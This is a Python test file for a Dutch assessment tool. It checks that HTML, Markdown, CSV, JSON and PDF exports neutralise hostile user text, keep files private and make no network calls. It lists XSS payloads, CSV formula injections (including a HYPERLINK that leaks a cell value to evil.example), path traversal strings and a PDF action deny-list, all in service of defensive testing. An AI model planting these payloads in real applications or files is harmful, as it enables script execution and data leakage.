"""Hostile input and privacy.

- Every user text field (organisation, team, participant names, notes, action what and who,
  section notes) through every export (html, pdf, md, csv, json), for a corpus of hostile
  texts: nothing executable in HTML, nothing broken in the others, file names inside the
  export folder. Also typed into the app and exported from there.
- Files are private: assessment files, locks, the listing cache and exports 0600, folders 0700,
  even under umask 000.
- selfcheck opens no network connection of its own: a socket guard around the app, the
  command line and every export, in this process and (through sitecustomize) in child
  processes; only `selfcheck serve` listens, and only on the address it is given.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
import time
import urllib.error
import urllib.request
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import killharness
import netguard
import pytest
import tally

from selfcheck.core.export import analysis_for, build_report, export_analysis, render
from selfcheck.core.export.model import clean
from selfcheck.core.model import Action, Answer, Assessment
from selfcheck.core.storage import Workspace

SELFCHECK = Path(sys.executable).parent / "selfcheck"
QID = "armoede-gezondheid"  # it has steps and themes: section notes are in its reports
STAMP = datetime(2026, 11, 1, 12, 0, tzinfo=UTC)
PAYLOADS = {
    "script": "<script>alert(document.cookie)</script>",
    "img-onerror": '"><img src=x onerror=alert(1)>',
    "attribute-break": "' onmouseover='alert(1)' x='",
    "svg": "<svg onload=alert(1)><a xlink:href='javascript:alert(2)'>x</a></svg>",
    "javascript-url": "javascript:alert(1)",
    "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;",
    "md-link": "[klik hier](javascript:alert(1)) <https://evil.example> https://evil.example/x",
    "md-image": "![x](https://evil.example/pixel.png) ![y](javascript:alert(1))",
    "md-structure": "| a | b |\n|---|---|\n# Kop\n- lijst\n```\ncode\n``` *vet* _schuin_ `tick` \\",
    "csv-hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "csv-plus": "+cmd|' /C calc'!A0",
    "csv-minus": "-2+3+cmd|' /C calc'!A0",
    "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-tab-cr": "\t=1+1\r=2+2",
    "path-traversal": "../../../../etc/passwd",
    "windows-path": "..\\..\\Windows\\System32\\CON",
    "nul-control": "nul\x00bel\x07esc\x1b[31mrood\x1b[0m\x08back\x0bvt\x0cff\x7fdel",
    "rtl-override": "normaal \u202egnirts desrever\u202c \u2066isolaat\u2069 \u200fRLM",
    "unicode": "Zoë Özlem Jérôme ß € 🙂 👩‍⚕️ 中文 مرحبا",
    "quotes": "'\"`;--/*",
    "big": ("Lange notitie met veel woorden " * 3500)[:100_000],
}
FIELDS = ("organisation", "team", "participant", "note", "action what", "action who", "section note")
COUNTS = {"renders": 0, "payloads": 0, "fields": 0, "files": 0, "modes": 0, "guarded_flows": 0, "binds": 0}
ALLOWED_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "main",
    "header",
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "dl",
    "dt",
    "dd",
    "section",
    "div",
    "b",
    "strong",
    "em",
    "i",
    "span",
    "svg",
    "desc",
    "polygon",
    "line",
    "polyline",
    "text",
    "circle",
    "rect",
    "path",
    "g",
    "ol",
    "ul",
    "li",
    "br",
    "bdi",
    "figure",
    "figcaption",
    "table",
    "colgroup",
    "col",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "footer",
    "small",
    "abbr",
    "caption",
    "nav",
    "article",
    "aside",
    "hr",
    "sup",
    "sub",
    "time",
    "mark",
    "details",
    "summary",
    "tspan",
}
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")


def hostile(ws: Workspace, text: str) -> Assessment:
    """An assessment of armoede-gezondheid with `text` in every field a person types."""
    q = ws.library.questionnaire(QID)
    names = [text[:200] + " 1", text[:200] + " 2", "Anouk"]
    a = Assessment(
        questionnaire=QID,
        questionnaire_version=q.version,
        organisation=text[:2000],
        team=text[:2000],
        date=date(2026, 10, 20),
        voting="open",
        participants=names,
        created=STAMP,
        updated=STAMP,
    )
    for n, item in enumerate(q.items):
        a.answers[item.id] = Answer(
            score=n % 4,
            votes={p: (n + k) % 4 for k, p in enumerate(names)},
            note=text,
            discuss=bool(n % 2),
            updated=STAMP,
        )
    a.section_notes = {s.id: text for s in q.sections}
    a.actions = [
        Action(
            id="a1",
            what=text,
            who=text[:500],
            due=date(2027, 1, 1),
            status="open",
            principles=["P1"],
            items=[q.items[0].id],
            sections=[q.sections[0].id],
            created=STAMP,
            updated=STAMP,
        )
    ]
    a.path = ws.assessments_dir / "hostile.toml"
    return a


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attrs: list[tuple[str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs += [(k, v or "") for k, v in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def check_html(page: str, text: str) -> None:
    p = _Collector()  # what a browser would see: tags and attributes (hostile text may only be text)
    p.feed(page)
    assert p.tags <= ALLOWED_TAGS, p.tags - ALLOWED_TAGS
    for name, value in p.attrs:
        assert not name.startswith("on"), name
        assert name not in ("src", "href", "xlink:href", "action", "formaction", "srcset", "background", "poster"), name
        assert "javascript:" not in value.lower() and "data:" not in value.lower(), (name, value[:80])
    assert not CONTROL.search(page), "no control or bidi-override characters in the page"
    shown = " ".join("".join(p.text).split())
    probe = " ".join(clean(text).split())[:40]
    assert probe in shown, f"the text itself is shown (as text): {probe!r}"


def check_markdown(md: str, own_links: tuple[str, ...] = ()) -> None:
    """`own_links`: the questionnaire's own source addresses (content, not user text), which the
    report writes as clean autolinks `<https://…>` on purpose; everything else may form none."""
    for url in own_links:
        md = md.replace(f"<{url}>", "")
    assert not re.search(r"(?<!\\)<\s*(script|img|a\b|iframe|svg|object|embed)", md, re.I), "no HTML can form"
    assert not re.search(r"(?<!\\)!?\[[^\]\n]*(?<!\\)\]\(", md), "no link or image can form"
    assert not re.search(r"(?<![\\\w])<https?://", md), "no autolink"
    assert "https://evil" not in md and "http://evil" not in md, "bare URLs are broken up"
    assert not CONTROL.search(md)
    lines = md.splitlines()
    for i, line in enumerate(lines):
        if line.startswith("|"):
            start = i
            while start > 0 and lines[start - 1].startswith("|"):
                start -= 1
            cols = len(re.split(r"(?<!\\)\|", lines[start])) - 2
            assert len(re.split(r"(?<!\\)\|", line)) - 2 == cols, f"a table row keeps its columns: {line[:120]}"


def check_csv(data: bytes, lang_sep: str = ";") -> None:
    text = data.decode("utf-8-sig")
    assert "\x00" not in text
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=lang_sep))
    assert rows and all(len(r) == len(rows[0]) for r in rows), "every row has the header's columns"
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"formula not neutralised: {cell[:60]!r}"


def check_json(data: bytes, text: str) -> None:
    doc = json.loads(data)
    blob = json.dumps(doc, ensure_ascii=False)
    assert not CONTROL.search(blob.replace("\\n", ""))
    values: list[str] = []

    def walk(x: Any) -> None:
        if isinstance(x, dict):
            for v in x.values():
                walk(v)
        elif isinstance(x, list):
            for v in x:
                walk(v)
        elif isinstance(x, str):
            values.append(x)

    walk(doc)
    want = clean(text)
    assert want in values or want[:2000] in values, "the text is kept exactly (cleaned of control characters)"


def check_pdf(data: bytes) -> None:
    assert data.startswith(b"%PDF-") and data.rstrip().endswith(b"%%EOF")
    for bad in (
        b"/JavaScript",
        b"/JS ",
        b"/URI",
        b"/Launch",
        b"/SubmitForm",
        b"/ImportData",
        b"/EmbeddedFile",
        b"/RichMedia",
        b"/AA ",
    ):
        assert bad not in data, bad


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    w = Workspace(tmp_path_factory.mktemp("hostile") / "ws")
    w.ensure()
    return w


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_every_field_through_every_export(name: str, ws: Workspace) -> None:
    text = PAYLOADS[name]
    a = hostile(ws, text)
    report = build_report(analysis_for(ws, a), generated=STAMP)
    check_html(render(report, "html").decode("utf-8"), text)
    check_markdown(render(report, "md").decode("utf-8"), tuple(src.url for src in report.sources))
    check_csv(render(report, "csv"))
    check_json(render(report, "json"), text)
    check_pdf(render(report, "pdf"))
    COUNTS["renders"] += 5
    COUNTS["payloads"] += 1
    COUNTS["fields"] = len(FIELDS)


def test_section_notes_and_actions_reach_the_reports(ws: Workspace) -> None:
    """The fields above are really in the reports (else escaping them proves little)."""
    a = hostile(ws, "ZZTOKEN")
    report = build_report(analysis_for(ws, a), generated=STAMP)
    md = render(report, "md").decode("utf-8")
    html = render(report, "html").decode("utf-8")
    blob = json.dumps(json.loads(render(report, "json")))
    for out in (md, html, blob):
        assert out.count("ZZTOKEN") >= 5
    assert "ZZTOKEN 1" in blob and "ZZTOKEN 2" in blob  # participants
    doc = json.loads(render(report, "json"))
    assert doc["organisation"] == "ZZTOKEN" and [x["what"] for x in doc["actions"]] == ["ZZTOKEN"]
    assert "ZZTOKEN" in json.dumps(doc.get("themes", doc))  # section notes (themes of armoede-gezondheid)


@pytest.mark.parametrize("name", ["path-traversal", "windows-path", "nul-control", "script", "rtl-override", "big"])
@pytest.mark.parametrize("fmt", ["html", "pdf", "md", "csv", "json"])
def test_export_file_names_stay_in_the_export_folder(name: str, fmt: str, ws: Workspace) -> None:
    a = hostile(ws, PAYLOADS[name])
    before = {p.resolve() for p in ws.root.rglob("*")}
    path = export_analysis(ws, a, fmt, generated=STAMP)
    assert path.resolve().parent == ws.exports_dir.resolve()
    assert re.fullmatch(r"[a-z0-9-]+_[a-z0-9-]+_\d{4}-\d{2}-\d{2}\.[a-z]+", path.name), path.name
    assert len(path.name) <= 120
    new = {p.resolve() for p in ws.root.rglob("*")} - before
    assert new <= {path.resolve()}, new
    COUNTS["files"] += 1


async def test_hostile_text_typed_in_the_app_and_exported_from_it(
    make_app: Any, workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Organisation and team from the wizard, a note, an action, then html and csv from the
    export dialog: inside the export folder, nothing executable, formulas neutralised."""
    from textual.widgets import Input, OptionList, TextArea
    from tui_helpers import settle

    from selfcheck.tui.answer import AnswerScreen
    from selfcheck.tui.home import NewAssessmentDialog

    notes = netguard.guard(monkeypatch)
    app = make_app()
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        app.screen.action_new()  # the home screen's wizard
        await pilot.pause()
        dialog = app.screen
        assert isinstance(dialog, NewAssessmentDialog)
        qlist = dialog.query_one("#questionnaire", OptionList)
        qlist.highlighted = next(n for n in range(qlist.option_count) if qlist.get_option_at_index(n).id == QID)
        dialog.query_one("#org", Input).value = "../../" + PAYLOADS["script"]
        dialog.query_one("#team", Input).value = PAYLOADS["windows-path"]
        dialog.query_one("#participants", Input).value = "=HYPERLINK(1), @Anna"
        await pilot.pause()  # the highlight chooses the questionnaire (● ChoiceList)
        dialog.finish()
        await pilot.pause()
        await pilot.press("enter")  # the summary's "Aanmaken" (issue 16.8)
        await settle(pilot)
        assert isinstance(app.screen, AnswerScreen)
        await pilot.press("2", "m")
        await pilot.pause()
        app.screen.query_one(TextArea).text = PAYLOADS["csv-hyperlink"] + "\n" + PAYLOADS["img-onerror"]
        await pilot.press("ctrl+s")
        await settle(pilot)
        await pilot.press("s", "e")
        await pilot.pause()
        for fmt in ("html", "csv"):
            formats = app.screen.query_one("#formats", OptionList)
            formats.highlighted = next(
                n for n in range(formats.option_count) if formats.get_option_at_index(n).id == fmt
            )
            await pilot.press("enter")
            await settle(pilot)
            await pilot.pause(0.2)
    files = sorted(workspace.exports_dir.iterdir())
    assert {p.suffix for p in files} == {".html", ".csv"}, files
    for p in files:
        assert p.resolve().parent == workspace.exports_dir.resolve()
        if p.suffix == ".html":
            check_html(p.read_text("utf-8"), PAYLOADS["csv-hyperlink"])
        else:
            check_csv(p.read_bytes())
    assert notes == [], notes
    COUNTS["guarded_flows"] += 1


# --------------------------------------------------------------------------- file modes


def modes(root: Path) -> list[str]:
    """Everything under root that is not private: folders not 0700, files not 0600."""
    wrong = []
    for p in [root, *root.rglob("*")]:
        m = stat.S_IMODE(p.lstat().st_mode)
        want = 0o700 if p.is_dir() else 0o600
        if m != want:
            wrong.append(f"{p.relative_to(root.parent)} {oct(m)}")
        COUNTS["modes"] += 1
    return wrong


def _items_of(root: Path, qid: str = "inwoners-betrekken") -> int:
    """How many statements the questionnaire has (the content grows: never a number by hand)."""
    return len(Workspace(root).library.questionnaire(qid).items)


@pytest.mark.slow
@pytest.mark.skipif(
    sys.platform == "win32" or not killharness.POSIX, reason="POSIX file modes; " + killharness.POSIX_REASON
)
def test_everything_selfcheck_writes_is_private_even_under_umask_000(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    env = killharness.app_env(root, tmp_path / "settings.toml")

    def run(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
        proc = subprocess.run(
            [str(SELFCHECK), *args],
            input=stdin,
            env=env,
            capture_output=True,
            text=True,
            encoding="utf-8",
            timeout=120,
            preexec_fn=lambda: os.umask(0),
        )
        assert proc.returncode == 0, (args, proc.stderr)
        return proc

    path = Path(run("new", "-q", "inwoners-betrekken", "--org", "Privé").stdout.strip())
    run("answer", str(path), stdin="2 notitie\n1\n")
    run("list")
    for fmt in ("html", "pdf", "md", "csv", "json"):
        run("export", str(path), "-f", fmt)
    second = Path(run("new", "-q", "inwoners-betrekken", "--org", "Privé", "--date", "2027-01-01").stdout.strip())
    run("compare", str(path), str(second))
    # the app in a terminal, with its lock and a save, then a kill that leaves the lock
    app = killharness.Child(["open", str(path)], env, zygote=None, pty=True, umask=0)
    try:
        assert killharness.wait_until(lambda: f"van {_items_of(root)} beantwoord" in app.text(), 30), app.text()[-1500:]
        app.send(b"3")  # on the first open item, the third
        reader = Workspace(root)
        third = reader.library.questionnaire("inwoners-betrekken").items[2].id
        assert killharness.wait_until(lambda: reader.load(path).answer(third).score == 3, 15)
        assert (path.parent / (path.name + ".lock")).exists()
        wrong = modes(root)
    finally:
        app.kill()
        app.close()
    trash = Workspace(root)
    trash.trash(second)
    wrong += modes(root)
    assert wrong == [], wrong
    names = {p.name for p in root.rglob("*")}
    assert {"assessments", "exports", ".selfcheck", "index.sqlite", ".trash"} <= names, names


# --------------------------------------------------------------------------- no network


def test_no_network_in_process_cli_and_exports(monkeypatch: pytest.MonkeyPatch, capsys: Any, isolated: Path) -> None:
    """Every command in this process, under the guard: no attempt at all."""
    from selfcheck import cli

    notes = netguard.guard(monkeypatch)
    monkeypatch.setattr(sys, "stdin", io.StringIO("2\n1\nn\n"))
    assert cli.main(["new", "-q", "inwoners-betrekken", "--org", "Netloos"]) == 0
    path = capsys.readouterr().out.strip()
    for args in (
        ["answer", path],
        ["list"],
        ["questionnaires"],
        ["validate"],
        ["report", path],
        ["compare", path, path],
        *(["export", path, "-f", fmt] for fmt in ("html", "pdf", "md", "csv", "json")),
        ["demo"],
    ):
        assert cli.main(args) == 0, args
        capsys.readouterr()
        COUNTS["guarded_flows"] += 1
    assert notes == [], notes


async def test_no_network_in_the_app(make_app: Any, demo: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    """Home, wizard, answering, results, agenda, actions, compare, help and exports, guarded."""
    from tui_helpers import settle

    notes = netguard.guard(monkeypatch)
    app = make_app(ws=demo)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        files = demo.assessment_files()
        app.open_assessment(files[-1])
        await settle(pilot)
        for keys in (
            ["2", "right", "n"],
            ["s"],
            ["enter"],
            ["escape", "a"],
            ["escape", "p"],
            ["escape", "f1"],
            ["escape", "escape"],
        ):
            await pilot.press(*keys)
            await settle(pilot)
        app.open_assessment(files[-1])
        await settle(pilot)
        await pilot.press("s", "e")
        await pilot.pause()
        for _ in range(5):  # every format from the export dialog
            await pilot.press("enter")
            await settle(pilot)
            await pilot.pause(0.2)
            await pilot.press("down")
    assert len(list(demo.exports_dir.iterdir())) == 5
    assert notes == [], notes
    COUNTS["guarded_flows"] += 1


@pytest.mark.slow
@pytest.mark.skipif(sys.platform == "win32" or not killharness.POSIX, reason=killharness.POSIX_REASON)
def test_no_network_in_child_processes(tmp_path: Path) -> None:
    """The real commands and the app in a terminal, with the guard loaded by sitecustomize into
    every Python process: the log of attempts stays empty (a hidden, caught attempt shows too)."""
    root = tmp_path / "ws"
    log = tmp_path / "net.log"
    env = netguard.env_with_guard(killharness.app_env(root, tmp_path / "settings.toml"), tmp_path, log)
    probe = subprocess.run(
        [sys.executable, "-c", "import socket; socket.create_connection(('example.org', 80))"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert probe.returncode != 0 and "test guard" in probe.stderr, "the guard is loaded in child processes"
    assert [e["kind"] for e in netguard.read_log(log)] == ["create_connection"]
    log.unlink()

    def run(*args: str, stdin: str = "") -> str:
        proc = subprocess.run(
            [str(SELFCHECK), *args], input=stdin, env=env, capture_output=True, text=True, encoding="utf-8", timeout=120
        )
        assert proc.returncode == 0, (args, proc.stderr)
        COUNTS["guarded_flows"] += 1
        return proc.stdout

    path = run("new", "-q", "inwoners-betrekken", "--org", "Netloos").strip()
    run("answer", path, stdin="1\n2\n")
    for args in (
        ["list"],
        ["questionnaires"],
        ["validate"],
        ["report", path],
        ["compare", path, path],
        ["demo"],
        *(["export", path, "-f", fmt] for fmt in ("html", "pdf", "md", "csv", "json")),
    ):
        run(*args)
    app = killharness.Child(["open", path], env, zygote=None, pty=True)
    try:
        assert killharness.wait_until(lambda: f"van {_items_of(root)} beantwoord" in app.text(), 30), app.text()[-1500:]
        app.send(killharness.RIGHT * 2 + b"3")
        mark = len(app.raw)
        app.send(b"s")  # the results screen (keys before a screen is ready do nothing: wait for each)
        assert killharness.wait_until(lambda: "scores" in app.text(mark) and "P9" in app.text(mark), 20), app.text()[
            -1500:
        ]
        time.sleep(0.2)
        mark = len(app.raw)
        app.send(b"e")
        assert killharness.wait_until(lambda: "Exporteren voor het management" in app.text(mark), 20), app.text()[
            -1500:
        ]
        time.sleep(0.2)
        mark = len(app.raw)
        app.send(b"\r")  # html from the export dialog: the command line wrote that file already
        assert killharness.wait_until(lambda: "bestaat al" in app.text(mark), 20), app.text()[-1500:]
        time.sleep(0.2)
        mark = len(app.raw)
        app.send(b"\r")  # replace it (issue 16.11: asked, not overwritten silently)
        assert killharness.wait_until(lambda: "Geschreven" in app.text(mark), 20), app.text()[-1500:]
        app.send(b"\x11")  # ctrl+q
        assert killharness.wait_until(app.ended, 20), app.text()[-1500:]
        COUNTS["guarded_flows"] += 1
    finally:
        if not app.ended():
            app.kill()
        app.close()
    assert netguard.read_log(log) == []


def _listening(pid: int) -> set[tuple[str, int]]:
    """The TCP addresses the process listens on, from /proc (Linux)."""
    inodes = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        try:
            target = os.readlink(fd)
        except OSError:
            continue
        m = re.match(r"socket:\[(\d+)\]", target)
        if m:
            inodes.add(m.group(1))
    found = set()
    for table, v6 in (("tcp", False), ("tcp6", True)):
        try:
            lines = Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            parts = line.split()
            local, state, inode = parts[1], parts[3], parts[9]
            if state != "0A" or inode not in inodes:  # 0A: LISTEN
                continue
            host_hex, port_hex = local.split(":")
            if v6:
                raw = bytes.fromhex(host_hex)
                import ipaddress

                host = str(ipaddress.IPv6Address(b"".join(raw[i : i + 4][::-1] for i in range(0, 16, 4))))
            else:
                host = ".".join(str(b) for b in bytes.fromhex(host_hex)[::-1])
            found.add((host, int(port_hex, 16)))
    return found


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/net/tcp").exists(), reason="reads listening sockets from /proc (Linux)")
@pytest.mark.parametrize("host", ["127.0.0.1", "0.0.0.0"])
def test_serve_listens_only_on_the_address_it_is_given(host: str, tmp_path: Path) -> None:
    pytest.importorskip("textual_serve", reason="needs the serve extra")
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    log = tmp_path / "net.log"
    env = netguard.env_with_guard(killharness.app_env(tmp_path / "ws", tmp_path / "settings.toml"), tmp_path, log)
    out = open(tmp_path / "serve.out", "w")
    proc = subprocess.Popen(
        [str(SELFCHECK), "serve", "--host", host, "--port", str(port)], env=env, stdout=out, stderr=subprocess.STDOUT
    )
    try:
        page = {}

        def up() -> bool:
            assert proc.poll() is None, (tmp_path / "serve.out").read_text()
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=2) as r:
                    page["html"] = r.read()
            except urllib.error.HTTPError as exc:
                return exc.code == 403  # up, and refusing a request without its secret token
            except OSError:
                return False
            return True

        assert killharness.wait_until(up, 30), (tmp_path / "serve.out").read_text()
        listening = _listening(proc.pid)
        assert listening == {(host, port)}, listening
    finally:
        proc.terminate()
        proc.wait(timeout=15)
        out.close()
    entries = netguard.read_log(log)
    refused = [e for e in entries if e["kind"] not in ("bind", "listen")]
    assert refused == [], refused
    binds = [e["detail"] for e in entries if e["kind"] == "bind"]
    assert binds and all(b == repr((host, port)) for b in binds), binds
    COUNTS["binds"] += len(binds)


def test_zz_privacy_report() -> None:
    tally.report(
        "hostile input and privacy",
        f"{COUNTS['payloads']} hostile texts in all {COUNTS['fields']} user text fields through "
        f"{COUNTS['renders']} renders (html, pdf, md, csv, json): nothing executable, nothing broken; "
        f"{COUNTS['files']} exports named from hostile text stayed in the export folder; "
        f"{COUNTS['modes']} file and folder modes checked private under umask 000; "
        f"{COUNTS['guarded_flows']} app, command and export flows under the socket guard without a single "
        f"attempt; selfcheck serve bound only the address given ({COUNTS['binds']} binds)",
    )
